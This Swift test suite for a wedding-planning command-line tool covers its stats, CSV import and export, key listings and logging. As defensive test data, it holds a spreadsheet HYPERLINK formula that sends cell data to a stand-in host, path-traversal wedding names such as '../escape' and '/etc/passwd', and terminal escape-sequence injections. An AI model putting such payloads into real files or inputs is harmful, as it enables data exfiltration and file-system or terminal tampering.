import Foundation
import Glibc
import Testing

@Suite("blueprint command line")
struct CommandLineTests {
    @Test("demo creates a wedding that stats reports in stable JSON")
    func demoThenStats() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let demo = try blueprint.run(["demo", "--name", "Ana & Ben", "--guests", "60", "--seed", "7"])
        #expect(demo.status == 0, "\(demo.stderr)")
        #expect(demo.stdout == "Ana & Ben\n")

        let stats = try blueprint.run(["stats", "--json"])
        #expect(stats.status == 0, "\(stats.stderr)")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(stats.stdout.utf8)) as? [String: Any])
        let guests = try #require(json["guests"] as? [String: Any])
        #expect(guests["invited"] as? Int == 60)
        #expect(Set(guests.keys) == ["invited", "attending", "attendingHeadcount", "declined", "pending", "responseRate",
                                     "mealCounts", "seatsPerTable"])
        let headcount = try #require(guests["attendingHeadcount"] as? Int)
        let meals = try #require(guests["mealCounts"] as? [String: Int])
        #expect(meals[""] == nil && meals["notChosen"] != nil, "\(meals)")
        #expect(meals.values.reduce(0, +) == headcount, "every person coming has a meal, chosen or not: \(meals)")
        let seats = try #require(guests["seatsPerTable"] as? [String: Int])
        #expect(!seats.isEmpty && seats.values.reduce(0, +) <= headcount, "\(seats)")
        let wedding = try #require(json["wedding"] as? [String: Any])
        #expect(wedding["name"] as? String == "Ana & Ben")
        #expect(Set(json.keys) == ["wedding", "guests", "budget", "vendors", "tasks", "milestones", "runSheet", "gifts"])
        let gifts = try #require(json["gifts"] as? [String: Int])
        #expect(Set(gifts.keys) == ["count", "thankYousToWrite", "moneyGifts", "owedToCouple", "owedByCouple"])
        #expect(gifts["count"]! > 0 && (0...gifts["count"]!).contains(gifts["thankYousToWrite"]!), "\(gifts)")

        let text = try blueprint.run(["stats"])
        #expect(text.status == 0)
        #expect(text.stdout.contains("60 invited"))
        #expect(text.stdout.contains("Gifts    \(gifts["count"]!) gifts, \(gifts["thankYousToWrite"]!) thank-you"))
    }

    @Test("stats leave archived vendors out of the vendor figures and count them apart; JSON export keeps the review")
    func archivedVendorsInStats() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["wedding", "create", "Ana & Ben"]).status == 0)
        let csv = try blueprint.file(named: "vendors.csv", """
            Vendor Name,Booking Status,Quoted Amount,Archived,Rating,Review,Would Book Again
            Grand Hall,Booked,7500,no,5,Calm on the day,yes
            Old Barn,Booked,4000,yes,2,,no
            """)
        let imported = try blueprint.run(["import", "vendors", csv])
        #expect(imported.status == 0, "\(imported.stderr)")

        let stats = try blueprint.run(["stats", "--json"])
        #expect(stats.status == 0, "\(stats.stderr)")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(stats.stdout.utf8)) as? [String: Any])
        let vendors = try #require(json["vendors"] as? [String: Any])
        #expect(vendors["total"] as? Int == 1 && vendors["archived"] as? Int == 1)
        #expect(vendors["bookedCost"] as? Int == 750_000)
        let text = try blueprint.run(["stats"])
        #expect(text.stdout.contains("Vendors  1 total, 1 booked;"), "\(text.stdout)")
        #expect(text.stdout.contains("; 1 archived, left out"), "\(text.stdout)")

        let exported = try blueprint.run(["export", "vendors", "--format", "json"])
        #expect(exported.status == 0, "\(exported.stderr)")
        #expect(exported.stdout.contains(#""review" : "Calm on the day""#), "\(exported.stdout)")
        #expect(exported.stdout.contains(#""rating" : 5"#) && exported.stdout.contains(#""isArchived" : true"#))
    }

    @Test("the same seed makes the same demo wedding")
    func demoIsDeterministic() throws {
        let first = try BlueprintProcess.withTemporaryDataDirectory()
        let second = try BlueprintProcess.withTemporaryDataDirectory()
        for blueprint in [first, second] {
            #expect(try blueprint.run(["demo", "--guests", "40", "--seed", "11"]).status == 0)
        }
        for kind in ["guests", "vendors", "expenses", "tasks"] {
            let one = try first.run(["export", kind]), two = try second.run(["export", kind])
            #expect(one.status == 0 && two.status == 0)
            #expect(one.stdout == two.stdout, "export \(kind) differs between two runs with one seed")
            #expect(!one.stdout.isEmpty)
        }
    }

    @Test("a second demo of the same couple gets a number; a demo name already taken is refused and changes nothing")
    func demoNamesStayUnique() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let first = try blueprint.run(["demo", "--guests", "5", "--seed", "3"])
        let second = try blueprint.run(["demo", "--guests", "5", "--seed", "3"])
        #expect(first.status == 0 && second.status == 0, "\(first.stderr)\(second.stderr)")
        let name = first.stdout.trimmingCharacters(in: .newlines)
        #expect(second.stdout == "\(name) (2)\n")
        #expect(try blueprint.run(["stats", "--wedding", name]).status == 0, "the first name still picks one wedding")

        let before = try blueprint.snapshot()
        let taken = try blueprint.run(["demo", "--name", name.uppercased(), "--guests", "5"])
        #expect(taken.status != 0)
        #expect(taken.stderr.contains("--name: a wedding named '\(name)' already exists"), "\(taken.stderr)")
        #expect(taken.stdout.isEmpty)
        #expect(try blueprint.snapshot() == before)
    }

    @Test("a negative count, written as people type it, is refused naming the option; nothing is created",
          arguments: [["--guests", "-5"], ["--vendors", "-1"], ["--guests=-5"]])
    func negativeDemoCounts(options: [String]) throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let before = try blueprint.snapshot()
        let result = try blueprint.run(["demo"] + options)
        #expect(result.status != 0)
        let option = options[0].split(separator: "=")[0]
        #expect(result.stderr.contains("\(option): the"), "\(result.stderr)")
        #expect(result.stderr.contains("cannot be negative"), "\(result.stderr)")
        #expect(result.stdout.isEmpty)
        #expect(try blueprint.snapshot() == before)
    }

    @Test("a CSV with a bad row is rejected whole: line and column named on stderr, nothing written")
    func badImportChangesNothing() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["demo", "--guests", "5"]).status == 0)
        let before = try blueprint.snapshot()
        let csv = try blueprint.file(named: "guests.csv", """
            First Name,Last Name,Email
            Good,Person,good@example.com
            Bad,Address,bob@
            """)
        let result = try blueprint.run(["import", "guests", csv])
        #expect(result.status != 0)
        #expect(result.stderr.contains("guests.csv:3"))
        #expect(result.stderr.contains("Email"))
        #expect(result.stdout.isEmpty)
        #expect(try blueprint.snapshot() == before)
    }

    @Test("a dry run reports what would change and writes nothing; the real import then adds the rows")
    func dryRunThenImport() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["demo", "--guests", "3"]).status == 0)
        let before = try blueprint.snapshot()
        let csv = try blueprint.file(named: "new.csv", "first_name,surname,RSVP\nZoë,Ng,yes\n\"Sam, Jr.\",Park,regrets\n")
        let dry = try blueprint.run(["import", "guests", csv, "--dry-run"])
        #expect(dry.status == 0, "\(dry.stderr)")
        #expect(dry.stdout.contains("2"))
        #expect(try blueprint.snapshot() == before)

        let real = try blueprint.run(["import", "guests", csv])
        #expect(real.status == 0, "\(real.stderr)")
        #expect(real.stdout.contains("2 added"))
        let exported = try blueprint.run(["export", "guests"])
        #expect(exported.stdout.contains("Zoë"))
        #expect(exported.stdout.contains("\"Sam, Jr.\""))
    }

    @Test("guests exported from one wedding import into another without loss")
    func exportImportRoundTrip() throws {
        let source = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try source.run(["demo", "--guests", "30", "--seed", "3"]).status == 0)
        let exported = try source.run(["export", "guests", "--format", "csv"])
        let file = try source.file(named: "guests.csv", exported.stdout)

        let target = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try target.run(["demo", "--guests", "0", "--vendors", "0", "--tasks", "0", "--expenses", "0",
                                "--seed", "3"]).status == 0)
        let imported = try target.run(["import", "guests", file])
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(try target.run(["export", "guests"]).stdout == exported.stdout)
    }

    @Test("CSV export writes formulas as text for spreadsheets, --raw as stored, and either imports back as typed")
    func exportNeutralisesFormulas() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["wedding", "create", "Ana & Ben"]).status == 0)
        let hostile = try blueprint.file(named: "rsvp.csv", """
            First Name,Last Name,Phone,Notes
            "=HYPERLINK(""http://x.example/?a=""&A1;""click"")",Ng,+1 555 0100,@SUM(1+1)
            """)
        #expect(try blueprint.run(["import", "guests", hostile]).status == 0)
        let safe = try blueprint.run(["export", "guests"])
        #expect(safe.stdout.contains("\"'=HYPERLINK(\"\"http://x.example/?a=\"\"&A1;\"\"click\"\")\","), "\(safe.stdout)")
        #expect(safe.stdout.contains(",'+1 555 0100,") && safe.stdout.hasSuffix(",'@SUM(1+1)\n"), "\(safe.stdout)")
        let raw = try blueprint.run(["export", "guests", "--raw"])
        #expect(raw.stdout.contains(",+1 555 0100,") && raw.stdout.hasSuffix(",@SUM(1+1)\n"), "\(raw.stdout)")
        let json = try blueprint.run(["export", "guests", "--format", "json"])
        #expect(json.stdout.contains("\"notes\" : \"@SUM(1+1)\""), "\(json.stdout)")

        let target = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try target.run(["wedding", "create", "Ana & Ben"]).status == 0)
        #expect(try target.run(["import", "guests", try target.file(named: "safe.csv", safe.stdout)]).status == 0)
        #expect(try target.run(["export", "guests", "--raw"]).stdout == raw.stdout)
    }

    @Test("export -o writes a private file; JSON export has every guest")
    func exportToFile() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["demo", "--guests", "12"]).status == 0)
        let path = blueprint.dataDirectory.deletingLastPathComponent().appendingPathComponent("out-\(UUID().uuidString).json").path
        let result = try blueprint.run(["export", "guests", "--format", "json", "-o", path])
        #expect(result.status == 0, "\(result.stderr)")
        let records = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [Any])
        #expect(records.count == 12)
        let mode = try #require(try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int)
        #expect(mode & 0o077 == 0)
    }

    @Test("an unknown wedding, a missing file and an empty data directory are clear errors with a non-zero exit")
    func clearErrors() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let empty = try blueprint.run(["stats"])
        #expect(empty.status != 0)
        #expect(empty.stderr.contains("blueprint demo"))

        #expect(try blueprint.run(["demo"]).status == 0)
        let unknown = try blueprint.run(["stats", "--wedding", "Nobody"])
        #expect(unknown.status != 0)
        #expect(unknown.stderr.contains("Nobody"))

        let missing = try blueprint.run(["import", "guests", "/nonexistent/guests.csv"])
        #expect(missing.status != 0)
        #expect(missing.stderr == "Error: cannot read /nonexistent/guests.csv: No such file or directory\n", "\(missing.stderr)")
    }

    @Test("import of a folder or a FIFO is refused at once, naming what it is; an empty --data-dir is refused, not taken as here")
    func notAFileAndNoFolder() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["demo", "--guests", "3"]).status == 0)
        let before = try blueprint.snapshot()
        let folder = blueprint.dataDirectory.deletingLastPathComponent().path
        let folderImport = try blueprint.run(["import", "guests", folder])
        #expect(folderImport.status == 1)
        #expect(folderImport.stderr == "Error: cannot read \(folder): it is a folder; name a CSV file\n", "\(folderImport.stderr)")
        let fifo = folder + "/guests.fifo"
        #expect(mkfifo(fifo, 0o600) == 0)
        let fifoImport = try blueprint.run(["import", "guests", fifo])
        #expect(fifoImport.status == 1)
        #expect(fifoImport.stderr == "Error: cannot read \(fifo): it is not a regular file; name a CSV file\n", "\(fifoImport.stderr)")
        #expect(try blueprint.snapshot() == before)

        let work = blueprint.dataDirectory.deletingLastPathComponent()
        let empty = try blueprint.run(["wedding", "create", "Here", "--data-dir", ""], in: work)
        #expect(empty.status != 0)
        #expect(empty.stderr.contains("--data-dir is empty; name a folder"), "\(empty.stderr)")
        #expect(!FileManager.default.fileExists(atPath: work.appendingPathComponent("weddings").path), "nothing made in the working directory")
    }

    @Test("hostile wedding names never reach outside the data directory, and errors never echo escape sequences")
    func hostileNames() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let parent = blueprint.dataDirectory.deletingLastPathComponent()
        for name in ["../escape", "/etc/passwd", "a/../../b", "\u{1B}]0;pwned\u{07}"] {
            let result = try blueprint.run(["demo", "--name", name, "--guests", "1"])
            #expect(result.status == 0, "\(result.stderr)")
            #expect(!result.stdout.contains("\u{1B}"))
        }
        // Beside the data directory there is only the log's folder (XDG_STATE_HOME).
        #expect(try Set(FileManager.default.contentsOfDirectory(atPath: parent.path)) == ["data", "state"])
        #expect(!FileManager.default.fileExists(atPath: parent.deletingLastPathComponent().appendingPathComponent("escape").path))

        let csv = try blueprint.file(named: "evil.csv", "First Name,Last Name,Email\nEve,Il,\"\u{1B}[2Jx@\"\n")
        let result = try blueprint.run(["import", "guests", csv, "--wedding", "../escape"])
        #expect(result.status != 0)
        #expect(!result.stderr.contains("\u{1B}"))
    }

    @Test("keys prints the planner's keys section by section, and as Markdown with --markdown")
    func keys() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let plain = try blueprint.run(["keys"])
        #expect(plain.status == 0)
        #expect(plain.stdout.hasPrefix("Everywhere\n"))
        #expect(plain.stdout.contains("Undo the last change in this pane"))
        let markdown = try blueprint.run(["keys", "--markdown"])
        #expect(markdown.stdout.hasPrefix("### Everywhere\n\n| keys | what they do |"))
    }

    @Test("keys prints the keys in force: the configuration file's rebinding, or the standard keys with --standard")
    func keysInForce() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let folder = blueprint.configurationHome.appendingPathComponent("blueprint", isDirectory: true)
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try Data("[keys.list]\nadd = [\"+\"]\n".utf8).write(to: folder.appendingPathComponent("config.toml"))
        let addLine = { (output: String) in output.split(separator: "\n").first { $0.hasSuffix(" Add") }.map(String.init) }

        let inForce = try blueprint.run(["keys"])
        #expect(inForce.status == 0 && inForce.stderr.isEmpty, "\(inForce.stderr)")
        #expect(addLine(inForce.stdout)?.trimmingCharacters(in: .whitespaces).hasPrefix("+ ") == true, "\(inForce.stdout)")
        let standard = try blueprint.run(["keys", "--standard"])
        #expect(addLine(standard.stdout)?.trimmingCharacters(in: .whitespaces).hasPrefix("a ") == true, "\(standard.stdout)")

        let bad = try blueprint.file(named: "bad.toml", "[keys.list]\nadd = 7\n")
        let withProblem = try blueprint.run(["keys", "--config", bad])
        #expect(withProblem.status == 0)
        #expect(withProblem.stderr.contains("bad.toml:2:"), "\(withProblem.stderr)")
        #expect(withProblem.stderr.contains("listing the defaults for what is wrong"))
        #expect(addLine(withProblem.stdout)?.trimmingCharacters(in: .whitespaces).hasPrefix("a ") == true)
    }

    @Test("what the store logs while a command runs goes to the log file, never amid the command's output")
    func commandsLogToTheFile() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        #expect(try blueprint.run(["demo", "--guests", "5"]).status == 0)
        let journal = try #require(try blueprint.snapshot().keys.first { $0.hasSuffix("journal.jsonl") })
        try FileManager.default.removeItem(at: blueprint.dataDirectory.resolvingSymlinksInPath().appendingPathComponent(journal))
        let stats = try blueprint.run(["stats"])
        #expect(stats.status == 0, "\(stats.stderr)")
        #expect(stats.stderr.isEmpty, "\(stats.stderr)")
        let log = try String(contentsOf: blueprint.stateHome.appendingPathComponent("blueprint/blueprint.log"), encoding: .utf8)
        #expect(log.contains("starting a new journal"))
    }

    @Test("an unknown BLUEPRINT_LOG_LEVEL is named in the log, with the levels there are, and the log stays at info")
    func unknownLogLevel() throws {
        let blueprint = try BlueprintProcess.withTemporaryDataDirectory()
        let list = try blueprint.run(["wedding", "list"], environment: ["BLUEPRINT_LOG_LEVEL": "verbose"])
        #expect(list.status == 0)
        #expect(list.stderr.isEmpty, "never on the screen: \(list.stderr)")
        let log = try String(contentsOf: blueprint.stateHome.appendingPathComponent("blueprint/blueprint.log"), encoding: .utf8)
        #expect(log.contains(" warning blueprint: BLUEPRINT_LOG_LEVEL=verbose is not a level, so the log is at info; "
                             + "the levels are trace, debug, info, notice, warning, error, critical"), "\(log)")
    }
}
